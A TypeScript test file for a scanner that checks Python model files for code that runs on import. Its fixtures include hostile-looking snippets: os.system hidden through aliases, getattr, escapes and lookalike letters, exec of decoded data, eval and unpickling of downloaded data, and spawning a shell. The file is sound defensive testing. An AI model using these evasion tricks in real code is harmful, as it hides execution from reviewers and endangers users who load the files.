import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseBuffer } from '../formats/drive.ts';
import { scanFile } from './scan.ts';

function scan(source: string) {
  const facts = parseBuffer(Buffer.from(source));
  return { facts, ...scanFile({ path: 'modeling_x.py', facts }) };
}

function rules(source: string): readonly string[] {
  return scan(source).findings.map(({ rule }) => rule);
}

describe('Python that acts when it is imported is blocked', () => {
  const malicious: Readonly<Record<string, string>> = {
    'os.system': 'import os\nos.system("id")\n',
    'os.popen through an alias': 'import os as o\nx = o.popen("id").read()\n',
    'a function imported by name': 'from subprocess import check_output as co\nco(["id"])\n',
    'a star import': 'from os import *\nsystem("id")\n',
    'an import inside an expression': '__import__("os").system("id")\n',
    importlib: 'import importlib\nimportlib.import_module("subprocess").run("id", shell=True)\n',
    'getattr with a constant': 'import os\ngetattr(os, "system")("id")\n',
    'getattr with a spelled-out constant': 'import os\ngetattr(os, "sys" + "tem")("id")\n',
    'getattr with escapes': 'import os\ngetattr(os, "\\x73ystem")("id")\n',
    'an alias by assignment': 'import os\nf = os.system\nf("id")\n',
    'an alias of an alias': 'import os as a\nb = a\nb.system("id")\n',
    'a module dictionary': 'import os\nos.__dict__["system"]("id")\n',
    'vars of a module': 'import os\nvars(os)["system"]("id")\n',
    'sys.modules': 'import sys, os\nsys.modules["os"].system("id")\n',
    'a module reached through another': 'import random\nrandom._os.system("id")\n',
    'builtins by name': 'import builtins, base64\nbuiltins.exec(base64.b64decode("cHJpbnQ="))\n',
    'compatibility letters': 'import os\n\uff4fs.\uff53ystem("id")\n',
    'a class body': 'import os\nclass A:\n    x = os.system("id")\n',
    'a default argument': 'import os\ndef f(x=os.system("id")):\n    pass\n',
    'a decorator': 'import os\n@os.system\ndef f():\n    pass\n',
    'a branch':
      'import os\nif True:\n    try:\n        os.system("id")\n    except Exception:\n        pass\n',
    'a comprehension': 'import os\nx = [os.system(c) for c in ["id"]]\n',
    'a lambda called at once': 'import os\n(lambda: os.system("id"))()\n',
    'a function called below': 'import os\ndef setup():\n    os.system("id")\nsetup()\n',
    'a function called by a function called below':
      'import os\ndef a():\n    os.system("id")\ndef b():\n    a()\nb()\n',
    'a method of a class made below':
      'import os\nclass A:\n    def __init__(self):\n        os.system("id")\nA()\n',
    'a function handed on':
      'import os, threading\ndef go():\n    os.system("id")\nthreading.Thread(target=go).start()\n',
    'a function that decorates': 'import os\ndef deco(f):\n    os.system("id")\n@deco\ndef g():\n    pass\n',
    'exec of decoded data': 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
    'eval of downloaded data': 'import requests\neval(requests.get("http://x.invalid").text)\n',
    'unpickling of downloaded data':
      'import pickle, urllib.request\npickle.loads(urllib.request.urlopen("http://x.invalid").read())\n',
    'installation of a package':
      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])\n',
    'replacing the process': 'import os\nos.execvp("sh", ["sh"])\n',
    'a pseudo-terminal': 'import pty\npty.spawn("/bin/sh")\n',
    'another source encoding': '# -*- coding: utf-7 -*-\nimport torch\nx = 1\n',
  };
  for (const [what, source] of Object.entries(malicious)) {
    it(`by ${what}`, () => {
      const { verdict, facts, findings } = scan(source);
      assert.equal(verdict, 'blocked', `${facts.format} ${JSON.stringify(findings)}`);
    });
  }
});

describe('Python that a person must read is inconclusive', () => {
  const suspicious: Readonly<Record<string, string>> = {
    'a function that starts processes': 'import os\ndef f(x):\n    return os.system(x)\n',
    'a function that evaluates': 'def f(x):\n    return eval(x)\n',
    'exec of an unknown at import': 'from x import y\nexec(y)\n',
    'the network at import': 'import requests\nrequests.get("http://x.invalid")\n',
    'unpickling at import': 'import pickle\nx = pickle.load(open("x"))\n',
    'native code at import': 'import ctypes\nctypes.CDLL("./x.so")\n',
    'deleting at import': 'import shutil\nshutil.rmtree("/tmp/x")\n',
    'writing at import': 'def f(): pass\nopen("/tmp/x", "w").write("y")\n',
    'an attribute of os by an unknown name': 'import os\nfrom x import n\ngetattr(os, n)("id")\n',
    'the way through subclasses': 'x = ().__class__.__base__.__subclasses__()\nimport math\n',
    'encoded data that is decoded': `import base64\nX = "${'QUJD'.repeat(150)}"\ndef f():\n    return base64.b64decode(X)\n`,
    'characters by number': `import math\nx = ${Array(20).fill('chr(111)').join(' + ')}\n`,
    'bidirectional controls': 'import math\nx = "\u202e" # check\nprint(x)\n',
    'syntax that nobody understands': 'import math\ndef f(x):\n    return x\ny = = 3\nz = f(1)\nw = f(2)\n',
  };
  for (const [what, source] of Object.entries(suspicious)) {
    it(`for ${what}`, () => {
      const { verdict, facts, findings } = scan(source);
      assert.equal(verdict, 'inconclusive', `${facts.format} ${JSON.stringify(findings)}`);
    });
  }
});

describe('ordinary Python is clean', () => {
  const ordinary: Readonly<Record<string, string>> = {
    'a method called eval':
      'import torch\ndef f(model):\n    model.eval()\n    return torch.compile(model)\n',
    'compiled patterns': 'import re\nX = re.compile("a+")\n',
    'a keyword argument called compile':
      'from x import f\ndef g(compile=True):\n    return f(compile=compile, exec=1)\n',
    'paths and environment': 'import os\nX = os.path.join(os.environ.get("HOME", ""), "x")\n',
    'attributes by name':
      'import torch\ndef f(self, n):\n    return getattr(self, n), getattr(torch, "float16")\n',
    'a vocabulary that is written':
      'import os\nfrom shutil import copyfile\ndef save_vocabulary(self, d):\n    copyfile(self.v, d)\n    with open(os.path.join(d, "v"), "w") as f:\n        f.write("x")\n',
    'weights only': 'import torch\ndef f(p):\n    return torch.load(p, weights_only=True)\n',
    'safe YAML':
      'import yaml\ndef f(p):\n    return yaml.safe_load(p), yaml.load(p, Loader=yaml.SafeLoader)\n',
    'constants of subprocess': 'import subprocess\nX = subprocess.PIPE\n',
    'a declared UTF-8': '# coding=utf-8\nimport math\n',
    'functions that would act, never called at import, but are called by others: none':
      'import math\nx = math.sqrt(2)\n',
  };
  for (const [what, source] of Object.entries(ordinary)) {
    it(`for ${what}`, () => {
      const { verdict, facts, findings } = scan(source);
      assert.deepEqual([facts.format, verdict], ['python', 'clean'], JSON.stringify(findings));
    });
  }

  it('with a note for what a reviewer should know', () => {
    assert.ok(rules('import torch\ndef f(p):\n    return torch.load(p)\n').includes('python/noted'));
    assert.ok(
      rules('import requests\ndef f(u):\n    return requests.get(u).content\n').includes('python/noted'),
    );
  });
});

it('every finding on Python names the line', () => {
  const { findings } = scan('import math\n\nimport os\nos.system("id")\n');
  assert.match(findings[0]?.message ?? '', /^line 4 calls "os.system"/);
});
